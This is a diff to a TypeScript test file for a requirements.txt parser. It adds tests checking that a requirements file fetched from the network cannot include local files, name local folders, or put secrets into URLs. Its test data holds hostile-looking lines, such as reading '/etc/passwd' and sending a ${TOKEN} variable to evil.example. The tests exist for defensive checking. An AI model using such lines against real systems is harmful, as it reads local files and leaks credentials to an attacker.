@@ -1,4 +1,4 @@
-import { expect, test } from "vitest";
+import { describe, expect, test } from "vitest";
 import { outcome } from "../../test/support/outcome.ts";
 import { readVectors } from "../../test/support/vectors.ts";
 import { decodeRequirementsFile } from "./requirements-lines.ts";
@@ -277,4 +277,43 @@ test("decodeRequirementsFile() believes a coding line", () => {
   expect(() => decodeRequirementsFile(Buffer.from("# coding: klingon\na"), "req.txt")).toThrowError(
     "is not in KLINGON",
   );
+});
+
+describe("a requirements file from the network", () => {
+  const URL_OF_FILE = "https://index.example/requirements.txt";
+  const read = (text: string): unknown =>
+    parseRequirementsTxt(text, { file: URL_OF_FILE, env: { TOKEN: "secret" }, read: () => "included" });
+
+  // Promise: a requirements file from the network reaches no file, folder or variable of this machine
+  // Attack: it includes local files, names local folders, or puts variables into a URL of its choice
+  test.each([
+    ["-r file:///etc/passwd", "includes the local file"],
+    ["-c file:///srv/constraints.txt", "includes the local file"],
+    ["--find-links /srv/wheels", "names the local folder"],
+    ["--find-links file:///srv/wheels", "names the local folder"],
+    ["--index-url file:///srv/simple", "names the local folder"],
+    ["--extra-index-url ../simple", "names the local folder"],
+    [
+      "flask @ https://evil.example/${TOKEN}/flask-1-py3-none-any.whl",
+      "uses the environment variable `${TOKEN}`",
+    ],
+    ["--index-url https://evil.example/${TOKEN}/simple", "uses the environment variable"],
+    ["./project", "names the local path"],
+    ["flask @ file:///srv/flask-1-py3-none-any.whl", "names the local path"],
+    ["git+file:///srv/flask", "names the local path"],
+    ["flask-1-py3-none-any.whl", "names the local path"],
+    ["-e project", "names the local path"],
+  ])("must not say `%s`", (line, reason) => {
+    expect(() => read(`flask\n${line}\n`)).toThrow(
+      `Cannot understand \`${URL_OF_FILE}\`, line 2: a file from the network cannot be used that ${reason}`,
+    );
+  });
+
+  test("may name what is on the network, and say nothing of variables in comments", () => {
+    expect(
+      read(
+        "-r more.txt\n-i https://a.example/simple\nflask @ https://a.example/flask-1-py3-none-any.whl # ${TOKEN}\ngit+https://a.example/x.git\nflask[async]>=1; python_version>'3'\n",
+      ),
+    ).toMatchObject({ warnings: [] });
+  });
 });
